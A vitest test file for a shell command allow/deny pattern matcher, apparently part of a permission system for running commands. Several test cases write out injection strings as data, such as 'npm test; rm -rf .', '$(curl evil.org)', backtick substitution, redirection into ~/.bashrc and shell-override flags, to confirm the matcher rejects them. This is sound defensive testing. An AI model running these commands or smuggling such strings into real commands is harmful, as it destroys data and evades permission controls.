import { expect, it } from 'vitest';
import { compileCommandPattern, escapeCommand, hasOperator } from './command-pattern.ts';

it.each([
  ['npm test*', 'npm test', true],
  ['npm test*', 'npm test -- a/b c', true],
  ['npm test *', 'npm test', true],
  ['npm test *', 'npm test -w', true],
  ['npm test *', 'npm testing', false],
  ['npm test', 'npm test -w', false],
  ['git * main', 'git push origin main', true],
  ['echo \\*', 'echo *', true],
  ['echo \\*', 'echo a', false],
  ['node a.js', 'node abjs', false],
  ['npm test *', 'npm test; rm -rf .', false],
  ['npm test *', 'npm test && curl evil.org', false],
  ['npm test *', 'npm test $(curl evil.org)', false],
  ['npm test *', 'npm test "`id`"', false],
  ['npm test *', 'npm test > ~/.bashrc', false],
  ['npm test *', 'npm test\nrm x', false],
  ['npm test *', "npm test 'a;b'", true],
  ['npm test *', "npm test $'\\'' ; rm x #'", false],
  ['npm test *', 'npm test "$\'"', true],
  ['npm test *', '/tmp/npm test', false],
  ['npm test *', 'npm test --script-shell=/tmp/x', false],
  ['npm test --script-shell=/tmp/x', 'npm test --script-shell=/tmp/x', true],
  ['pytest *', 'pytest /tmp/x.py', false],
  ['pytest *', 'pytest tests/a.py', true],
  ['make *', 'make all SHELL=x', false],
  ['timeout 60 npm test *', 'timeout 60 npm test --shell=x', false],
  ['curl *', 'curl https://docs.example.org', true],
  ['cat *', 'cat /tmp/x', true],
])('an allow of %j admits %j: %s', (pattern, command, expected) => {
  expect(compileCommandPattern(pattern).admits(command)).toBe(expected);
});

it.each([
  ['rm *', 'rm -rf x'],
  ['rm *', '/bin/rm -rf x'],
  ['rm *', '  rm   -rf  x'],
  ['rm *', '"rm" -rf x'],
  ['rm *', 'r\\m -rf x'],
  ['rm *', 'rm -rf x; ls'],
  ['git push *', 'git  push origin'],
])('a guard of %j catches %j', (pattern, command) => {
  expect(compileCommandPattern(pattern).catches(command)).toBe(true);
});

it('an escaped command matches just itself', () => {
  const command = 'rm -rf a* \\b (c) [d]';
  const { admits } = compileCommandPattern(escapeCommand(command));
  expect(admits(command)).toBe(true);
  expect(admits('rm -rf ab \\b (c) [d]')).toBe(false);
});

it('an operator is seen outside quotes only, a substitution inside double ones too', () => {
  expect(hasOperator(`echo 'a;b|c' "x;y"`)).toBe(false);
  expect(hasOperator('echo "$(id)"')).toBe(true);
  expect(hasOperator("echo '$(id)'")).toBe(false);
  expect(hasOperator('echo "open')).toBe(true);
});

it('a long command is compared without trying every way', () => {
  const { catches } = compileCommandPattern('*a*a*a*a*a*b');
  expect(catches('a'.repeat(100_000))).toBe(false);
  expect(catches(`${'a'.repeat(100_000)}b`)).toBe(true);
});
